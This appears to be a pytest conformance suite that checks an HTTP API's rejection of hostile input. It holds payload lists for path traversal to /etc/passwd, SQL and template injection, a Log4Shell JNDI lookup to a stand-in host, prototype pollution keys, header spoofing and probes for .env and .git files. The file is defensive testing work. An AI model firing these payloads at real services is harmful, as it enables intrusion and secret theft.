"""What strangers write who mean harm, in every place where one can write: it is refused, or it means nothing.

That nothing goes wrong inside, and that nothing of the inside is told, the oracle sees in every answer.
"""

from __future__ import annotations

import itertools
import json
from typing import Any

import pytest

from conformance.client import Client
from conformance.contract import Domain, Field, Resource
from conformance.described import Document
from conformance.methods import Method
from conformance.people import Person
from conformance.rows import Rows
from conformance.values import fresh_uuid

JSON = {"Content-Type": "application/json"}
MARK = "take-my-place"

VALUES = {
    "NUL": b'"a\\u0000b"',
    "NUL as it is": b'"a\x00b"',
    "an escape": b'"a\\u001bb"',
    "DEL": b'"a\\u007fb"',
    "half a character": b'"\\ud83c"',
    "the other half": b'"\\udffa a"',
    "halves in the wrong order": b'"\\udffa\\ud83c"',
    "no UTF-8": b'"\xff"',
    "a slash in two bytes": b'"\xc0\xaf"',
    "a surrogate in UTF-8": b'"\xed\xa0\x80"',
    "beyond Unicode": b'"\xf4\x90\x80\x80"',
    "a byte order mark within": b'\xef\xbb\xbf"a"',
    "NaN": b"NaN",
    "Infinity": b"-Infinity",
    "beyond doubles": b"1e999",
    "beyond 64 bits": b"9223372036854775808",
    "far below 64 bits": b"-" + b"9" * 4000,
    "a number of another base": b"0x10",
    "a number with a zero before it": b"007",
    "many levels": b"[" * 40 + b"]" * 40,
    "the same key twice": b'{"a": 1, "a": 2}',
}
"""JSON that no field of any type takes, as bytes."""

IN_URLS = {
    "NUL": "a%00b",
    "an escape": "%1b",
    "no UTF-8": "%ff",
    "a slash in two bytes": "%c0%af",
    "a surrogate": "%ed%a0%80",
    "half a character": "%f0%9f",
    "beyond Unicode": "%f4%90%80%80",
}
"""What is no text, as it stands in a URL."""

NO_IDENTIFIERS = (
    *IN_URLS.values(),
    "..",
    "%2e%2e",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%5cwindows",
    "%25%30%30",
    "%27%20OR%201=1%20--",
    "%f0%9f%8f%ba",
    "%EF%BC%90" * 36,
    "null",
    "undefined",
    "NaN",
    "0",
    "-1",
    "9" * 400,
    "%7b%7b7*7%7d%7d",
    "$%7bjndi:ldap:%2f%2fevil.example%7d",
    "me;id=1",
    "x" * 3000,
)
"""What stands where an identifier should."""

NO_PARAMETERS = (
    "%00=1",
    "filter[%00]=1",
    "filter[%ff]=1",
    "filter[]=1",
    "filter[[id]]=1",
    "filter[id=1",
    "filter]id[=1",
    "filter[id][in][in]=1",
    "filter[id][]=1",
    "filter[__class__]=1",
    "filter[constructor]=1",
    "filter[id;]=1",
    "filter.id=1",
    "id__in=1",
    "page[]=1",
    "page;limit=1",
    "page",
    "=1",
    "sort=created_at;drop",
    "sort=-created_at",
    "sort=created_at,id",
    "sort=__proto__",
    "include=..%2f..",
    "&".join(f"x{number}=1" for number in range(300)),
)
"""Queries that mean nothing."""

WORDS = ("", " ", '"', "\\", "%00", "\xff\xfe", "é", ";;;===", "," * 500, "a" * 3000, "../../etc/passwd", "${x}", "-1")
IGNORED = (
    "Accept",
    "Accept-Charset",
    "Accept-Encoding",
    "Accept-Language",
    "Cookie",
    "Forwarded",
    "From",
    "If-Modified-Since",
    "If-Unmodified-Since",
    "If-Range",
    "Origin",
    "Prefer",
    "Range",
    "Referer",
    "TE",
    "traceparent",
    "tracestate",
    "User-Agent",
    "Via",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Proto",
    "X-Real-IP",
    "X-Request-ID",
)
"""Headers that change nothing of what a reader is shown, whatever they say."""


def _short(text: str) -> str:
    """Return a name for a text in reports."""
    return ascii(text[:30])


@pytest.fixture(scope="module")
def kinds(domain: Domain) -> dict[Resource, list[Field]]:
    """A field of each type, by the resource that has it."""
    firsts = {field.type: (resource, field) for resource in domain.resources for field in resource.fields}
    found: dict[Resource, list[Field]] = {}
    for resource, field in firsts.values():
        found.setdefault(resource, []).append(field)
    return found


@pytest.mark.parametrize("what", VALUES)
def test_no_field_takes_it(kinds: dict[Resource, list[Field]], rows: Rows, ada: Person, what: str) -> None:
    for resource, fields in kinds.items():
        writer, one = rows.writer(resource, ada), rows.create(resource, ada)
        path, body = f"{resource.path}/{one['id']}", rows.full(resource, ada)
        ways = itertools.cycle((("POST", resource.path), ("PUT", path), ("PATCH", path)))
        for field in fields:
            raw = json.dumps({**body, field.wire: MARK}).encode().replace(f'"{MARK}"'.encode(), VALUES[what])
            method, place = next(ways)

            answer = writer.send(method, place, raw=raw, headers=JSON)

            assert answer.status == 400, (field.name, answer)
            assert answer.fields <= {"body", field.wire}, (field.name, answer)
        assert writer.get(path).data == one


class TestUrls:
    @pytest.mark.parametrize("what", IN_URLS)
    def test_no_parameter_takes_it(self, some_list: tuple[Client, str], what: str) -> None:
        client, path = some_list
        for name in ("page", "limit", "sort", "order", "cursor", "include", "filter[id]", "filter[created_at][gte]"):
            client.send("GET", f"{path}?{name}={IN_URLS[what]}").expect(400)

    @pytest.mark.parametrize("what", IN_URLS)
    def test_no_filter_takes_it(self, resource: Resource, writer: Client, what: str) -> None:
        for wire, kind in resource.listed.items():
            for operator in ("", "[in]", *(["[contains]"] if kind in ("string", "email", "url") else [])):
                if operator != "[in]" or kind != "boolean":
                    answer = writer.send("GET", f"{resource.path}?filter[{wire}]{operator}={IN_URLS[what]}")
                    assert answer.status == 400, (wire, operator, answer)

    @pytest.mark.parametrize("query", NO_PARAMETERS, ids=_short)
    def test_no_list_takes_it(self, some_list: tuple[Client, str], query: str) -> None:
        client, path = some_list

        assert client.send("GET", f"{path}?{query}").expect(400).json["error"]["details"]

    @pytest.mark.parametrize("text", NO_IDENTIFIERS, ids=_short)
    def test_nothing_is_there(self, domain: Domain, admin: Person, rows: Rows, ada: Person, text: str) -> None:
        # What is no path at all need not be looked for.
        for resource in domain.resources:
            rows.writer(resource, ada).get(f"{resource.path}/{text}").expect(404, 400)
        for resource in domain.resources[:1]:
            writer, path = rows.writer(resource, ada), f"{resource.path}/{text}"
            writer.send("PATCH", path, raw=b"{}", headers=JSON).expect(404, 400)
            writer.delete(path).expect(404, 400)
        for nested in domain.nested[:3]:
            admin.get(nested.path(text)).expect(404, 400)
        if domain.has_accounts:
            admin.get(f"{domain.account.path}/{text}").expect(404, 400)
            admin.send("PATCH", f"{domain.account.path}/{text}", raw=b"{}", headers=JSON).expect(404, 400)


class TestHeaders:
    @pytest.mark.parametrize("word", WORDS, ids=_short)
    def test_that_say_nothing_change_nothing(self, ada: Person, known: str, word: str) -> None:
        usual, theirs = ada.get(known).expect(200), ada.credentials("GET")
        ignored = [name for name in IGNORED if name not in theirs]
        for names in (ignored[:8], ignored[8:16], ignored[16:]):
            # What no header can hold need not be taken.
            answer = ada.get(known, headers=dict.fromkeys(names, word)).expect(200, 400)

            assert answer.status == 400 or answer.body == usual.body

    @pytest.mark.parametrize("word", WORDS, ids=_short)
    def test_conditions_that_are_none_hold_for_nothing(self, ada: Person, known: str, word: str) -> None:
        ada.get(known, headers={"If-None-Match": word}).expect(200, 400)
        ada.patch(known, {}, headers={"If-Match": word}).expect(412, 400, *([200] if not word.strip() else []))

    @pytest.mark.parametrize("name", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"])
    def test_no_header_is_a_method(self, ada: Person, known: str, name: str) -> None:
        before = ada.get(known, headers={name: "DELETE"}).expect(200).data
        ada.send("POST", known, headers={name: "PATCH"}).expect(405)
        ada.send("GET", f"{known}?_method=DELETE").expect(200, 400)

        assert ada.get(known).data == before

    @pytest.mark.parametrize("name", ["X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Prefix", "X-Script-Name"])
    def test_no_header_is_a_path(self, anonymous: Client, name: str) -> None:
        assert anonymous.get("/health/live", headers={name: "/metrics"}).expect(200).json == {"status": "ok"}
        anonymous.get("/surprise", headers={name: "/health/live"}).expect(404)


@pytest.mark.needs("accounts")
class TestAccounts:
    """Every operation that a method brings reads bodies as strictly as those of the domain."""

    NOT_THEIRS = ("id", "version", "created_at", "updated_at", "owner_id", "is_admin", "surprise")

    @pytest.fixture
    def places(self, method: Method, document: Document, ada: Person, admin: Person) -> list[tuple[Client, str, str]]:
        """Who may send bodies, by which method, and where."""
        found: list[tuple[Client, str, str]] = []
        for path, methods in method.operations.items():
            for verb in methods:
                if "requestBody" in document["paths"][path][verb]:
                    who = ada if path.endswith("/me") or "/auth/" in path else admin
                    found.append((who, verb.upper(), path.replace("{id}", self.id_of(path, ada, admin))))
        assert found
        return found

    @staticmethod
    def id_of(path: str, ada: Person, admin: Person) -> str:
        """Return what a path is about: Ada herself, or something of hers, as what is not there is refused before."""
        collection, _, rest = path.partition("/{id}")
        if not rest:
            return ada.id
        theirs: str = admin.get(collection, {"filter[user_id]": ada.id}).expect(200).data[0]["id"]
        return theirs

    @pytest.mark.parametrize("what", VALUES)
    def test_take_no_such_value(self, places: list[tuple[Client, str, str]], what: str) -> None:
        body = b", ".join(b'"%b": %b' % (name, VALUES[what]) for name in (b"email", b"name", b"password", b"roles"))
        for client, verb, path in places:
            client.send(verb, path, raw=b"{%b}" % body, headers=JSON).expect(400)

    def test_take_nothing_that_is_not_theirs(self, places: list[tuple[Client, str, str]]) -> None:
        for client, verb, path in places:
            body: dict[str, Any] = dict.fromkeys(self.NOT_THEIRS, fresh_uuid())
            answer = client.send(verb, path, body).expect(400)

            assert answer.fields >= set(body), answer


def test_whoever_asks_for_nothing_gets_nothing(anonymous: Client) -> None:
    for path in (
        "/.env",
        "/.git/config",
        "/admin.php",
        "/api/v1/../../etc/hosts",
        "/static/..%2f..%2f.env",
        "/%2e%2e/",
    ):
        anonymous.send("GET", path).expect(404, 400)
